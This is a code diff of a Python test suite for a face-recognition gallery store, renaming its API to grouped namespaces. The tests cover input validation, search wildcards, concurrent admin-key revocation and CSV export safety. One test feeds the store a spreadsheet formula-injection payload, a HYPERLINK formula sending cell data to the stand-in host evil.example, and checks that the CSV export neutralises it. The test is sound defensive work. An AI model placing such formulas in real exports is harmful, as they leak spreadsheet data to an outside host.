@@ -90,17 +90,17 @@ def test_a_refused_subject_leaves_nothing_and_listing_works(
     sqlite_store: StoreSpec, people
 ) -> None:
     g = sqlite_store.open()
-    g.create_subject("kept", {"a": 1})
+    g.subjects.create("kept", {"a": 1})
     for name, meta in [("deep", _nested(500)), ("nan", {"n": float("nan")}), ("\x00", {})]:
         with pytest.raises(GalleryError):
-            g.create_subject(name, meta, embeddings=people.sample(0, 2))
-    sid = g.list_subjects()[0].id
+            g.subjects.create(name, meta, embeddings=people.sample(0, 2))
+    sid = g.subjects.list()[0].id
     with pytest.raises(GalleryError):
-        g.update_subject(sid, metadata=_nested(100))
+        g.subjects.update(sid, metadata=_nested(100))
     with pytest.raises(GalleryError):
-        g.update_subject(sid, name="\u202e")
-    assert [(s.name, s.metadata) for s in g.list_subjects()] == [("kept", {"a": 1})]
-    assert g.count_faces() == 0
+        g.subjects.update(sid, name="\u202e")
+    assert [(s.name, s.metadata) for s in g.subjects.list()] == [("kept", {"a": 1})]
+    assert g.subjects.count_faces() == 0
     json.dumps(g.export())
 
 
@@ -108,12 +108,12 @@ def test_a_refused_subject_leaves_nothing_and_listing_works(
 def test_name_filter_takes_percent_and_underscore_literally(sqlite_store: StoreSpec) -> None:
     g = sqlite_store.open()
     for name in ("Ann", "Bo_b", "100% Joe", "back\\slash"):
-        g.create_subject(name)
-    assert [s.name for s in g.list_subjects(search="%")] == ["100% Joe"]
-    assert [s.name for s in g.list_subjects(search="_")] == ["Bo_b"]
-    assert [s.name for s in g.list_subjects(search="\\")] == ["back\\slash"]
-    assert g.count_subjects(search="%") == 1 and g.count_subjects(search="n") == 1
-    assert g.count_subjects() == 4
+        g.subjects.create(name)
+    assert [s.name for s in g.subjects.list(search="%")] == ["100% Joe"]
+    assert [s.name for s in g.subjects.list(search="_")] == ["Bo_b"]
+    assert [s.name for s in g.subjects.list(search="\\")] == ["back\\slash"]
+    assert g.subjects.count(search="%") == 1 and g.subjects.count(search="n") == 1
+    assert g.subjects.count() == 4
 
 
 # -- CSV -------------------------------------------------------------------------------------------
@@ -132,21 +132,21 @@ def test_plain_cells_and_numbers_are_unchanged() -> None:
 def test_event_and_attendance_exports_are_neutralised(sqlite_store: StoreSpec, people) -> None:
     g = sqlite_store.open()
     evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
-    s = g.create_subject(evil, embeddings=people.sample(0, 1))
-    g.log_event("@SUM(1+1)*cmd", subject_id=s.id, score=-0.125, decision="match")
-    events = list(csv.DictReader(io.StringIO(g.events_csv())))
+    s = g.subjects.create(evil, embeddings=people.sample(0, 1))
+    g.events.log("@SUM(1+1)*cmd", subject_id=s.id, score=-0.125, decision="match")
+    events = list(csv.DictReader(io.StringIO(g.events.csv())))
     assert events[0]["source"] == "'@SUM(1+1)*cmd"
     assert events[0]["subject_name"] == "'" + evil
     assert events[0]["score"] == "-0.125"
-    day = g.events()[0].time.astimezone().date()
-    rows = list(csv.DictReader(io.StringIO(g.attendance_csv(day))))
+    day = g.events.list()[0].time.astimezone().date()
+    rows = list(csv.DictReader(io.StringIO(g.events.attendance_csv(day))))
     assert rows[0]["name"] == "'" + evil and rows[0]["sources"] == "'@SUM(1+1)*cmd"
 
 
 def _revoke(g, key_id: str, barrier: threading.Barrier, outcomes: list[str]) -> None:
     barrier.wait()
     try:
-        g.delete_api_key(key_id)
+        g.keys.delete(key_id)
         outcomes.append("revoked")
     except ConflictError:
         outcomes.append("refused")
@@ -163,8 +163,8 @@ def test_concurrent_revocations_keep_one_admin_key(
     spec = make_store(backend, "exact", tmp_path, request)
     try:
         setup = spec.open()
-        a, _ = setup.create_api_key("a", "admin")
-        b, _ = setup.create_api_key("b", "admin")
+        a, _ = setup.keys.create("a", "admin")
+        b, _ = setup.keys.create("b", "admin")
         for _round in range(5):
             galleries = [spec.open(), spec.open()]
             barrier = threading.Barrier(2)
@@ -178,11 +178,11 @@ def test_concurrent_revocations_keep_one_admin_key(
             for t in threads:
                 t.join(timeout=60)
             assert sorted(outcomes) == ["refused", "revoked"]
-            assert setup.count_api_keys("admin") == 1
+            assert setup.keys.count("admin") == 1
             # put the revoked one back for the next round
-            survivor = setup.list_api_keys()[0]
+            survivor = setup.keys.list()[0]
             a = survivor
-            b, _ = setup.create_api_key("b", "admin")
+            b, _ = setup.keys.create("b", "admin")
     finally:
         spec.close_all()
 
@@ -193,14 +193,14 @@ def test_values_the_database_refuses_are_user_errors(store: StoreSpec) -> None:
     GalleryError, never a driver exception), on every backend, and nothing is stored."""
     g = store.open()
     if store.backend == "sqlite":
-        assert not g.has_subject("a\x00b")
+        assert not g.subjects.exists("a\x00b")
     else:
         with pytest.raises(GalleryError, match="refused a value"):
-            g.has_subject("a\x00b")
+            g.subjects.exists("a\x00b")
     with pytest.raises(GalleryError):
-        g.get_face(2**70)
-    g.create_subject("kept")
-    assert [s.name for s in g.list_subjects()] == ["kept"]
+        g.subjects.get_face(2**70)
+    g.subjects.create("kept")
+    assert [s.name for s in g.subjects.list()] == ["kept"]
 
 
 def test_an_index_failure_after_the_commit_is_not_an_error(
@@ -215,8 +215,8 @@ def test_an_index_failure_after_the_commit_is_not_an_error(
         raise RuntimeError("index down")
 
     monkeypatch.setattr(index, "add", broken)
-    subject = g.create_subject("kept", embeddings=people.sample(0, 2))
-    assert g.count_faces() == 2
+    subject = g.subjects.create("kept", embeddings=people.sample(0, 2))
+    assert g.subjects.count_faces() == 2
     monkeypatch.undo()
     hits = g.search(people.sample(0, 1), k=2)[0]
     assert {h.subject_id for h in hits} == {subject.id} and len(hits) == 2
